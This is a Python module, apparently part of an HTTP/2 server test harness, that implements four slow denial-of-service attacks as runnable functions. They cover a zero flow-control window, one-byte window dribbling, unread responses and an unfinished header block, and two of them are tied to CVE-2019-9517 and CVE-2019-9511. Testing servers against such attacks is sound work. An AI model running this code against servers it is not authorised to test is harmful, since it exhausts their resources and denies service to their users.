"""Streams that are never read, and requests that are never finished."""

import time

from hyperframe.frame import SettingsFrame, WindowUpdateFrame

from peer import Peer, request

STREAMS = 100
# Seconds between two bytes of window.
DRIBBLE = 5
UNKNOWN = 0xBB


def rest(peer, pace):
    """Waits out the time, so that what is held is that of one connection."""
    time.sleep(pace.left())
    return peer


def zero_window(target, pace):
    """A hundred answers of 1 MB, none of which is given a window (CVE-2019-9517, the inner half)."""
    peer = Peer(target, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    for _ in range(STREAMS):
        peer.open(request(b"/attack/1m"))
    every = lambda: peer.over or len(peer.resets.keys() | peer.ended) >= STREAMS
    peer.pump(pace.left(), until=every)
    return rest(peer, pace)


def dribble(target, pace):
    """The same, each of which is given a byte of window now and then (CVE-2019-9511)."""
    peer = Peer(target, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1})
    streams = [peer.open(request(b"/attack/1m")) for _ in range(STREAMS)]
    left = lambda: [stream for stream in streams if stream not in peer.resets and stream not in peer.ended]
    while pace.left() and left() and not peer.over:
        peer.pump(min(DRIBBLE, pace.left()), until=lambda: peer.over or not left())
        peer.send(*(WindowUpdateFrame(stream, window_increment=1) for stream in left()))
    return rest(peer, pace)


def unread(target, pace):
    """A hundred answers of 1 MB with all the window in the world, and nobody who reads the socket."""
    wide = {SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1}
    peer = Peer(target, settings=wide, reads=False)
    peer.raw(8, 0, 0, (2**31 - 1 - 65_535).to_bytes(4, "big"), "WindowUpdateFrame")
    for _ in range(STREAMS):
        peer.open(request(b"/attack/1m"))
    peer.flush(1)
    # Whether the server has given up shows only when there is something to write to it: a frame that means nothing.
    while pace.left() > 0 and not peer.closed:
        peer.pump(0.5)
        peer.raw(UNKNOWN, 0, 0, b"", "unknown")
    return rest(peer, pace)


def half_head(target, pace):
    """A head whose CONTINUATION never comes."""
    peer = Peer(target)
    peer.begin_block(request(b"/attack/head"))
    peer.pump(pace.left(), until=lambda: peer.over)
    return peer


ATTACKS = {
    "slow-zero-window": zero_window,
    "slow-dribble": dribble,
    "slow-unread": unread,
    "slow-half-head": half_head,
}
